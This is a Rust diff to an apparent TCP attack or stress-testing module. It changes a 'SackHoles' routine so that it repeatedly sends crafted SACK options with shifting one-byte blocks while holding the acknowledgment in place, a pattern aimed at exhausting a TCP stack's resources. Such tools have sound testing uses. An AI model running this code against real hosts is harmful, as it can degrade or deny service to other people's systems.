@@ -151,6 +151,9 @@ impl Attack for SlowReaders {
 pub(super) struct SackHoles(Conns);
 
 impl SackHoles {
+    /// How often the blocks are sent before the data is acknowledged.
+    const ROUNDS: u32 = 4;
+
     pub(super) fn new(size: usize) -> Self {
         Self(Conns::new(size, CHARGEN, SCALED, 64_000))
     }
@@ -163,11 +166,18 @@ impl Attack for SackHoles {
             let Some(conn) = self.0.next() else {
                 return;
             };
-            // The acknowledgment stays where it was, and the blocks of one byte go forward.
-            let unacknowledged = conn.next.wrapping_sub(conn.acknowledged);
+            // The acknowledgment stays where it was, and the blocks of one byte go forward, several times.
+            let reach = conn.next.wrapping_sub(conn.acknowledged).saturating_sub(8);
+            if reach == 0 || conn.mark / reach >= Self::ROUNDS {
+                conn.mark = 0;
+                conn.acknowledged = conn.next;
+                out.push(|out| conn.segment(ACK, 64_000).write(out));
+                continue;
+            }
             let mut options = vec![1, 1, 5, 2 + 8 * 4];
             for block in 0..4 {
-                let left = conn.acknowledged.wrapping_add(conn.mark + 1 + 2 * block);
+                let place = (conn.mark + 2 * block) % reach;
+                let left = conn.acknowledged.wrapping_add(place | 1);
                 options.extend(left.to_be_bytes());
                 options.extend(left.wrapping_add(1).to_be_bytes());
             }
@@ -177,13 +187,7 @@ impl Attack for SackHoles {
                 options: &options,
                 ..conn.segment(ACK, 64_000)
             };
-            if conn.mark + 8 < unacknowledged {
-                out.push(|out| segment.write(out));
-            } else {
-                conn.mark = 0;
-                conn.acknowledged = conn.next;
-                out.push(|out| conn.segment(ACK, 64_000).write(out));
-            }
+            out.push(|out| segment.write(out));
         }
     }
 
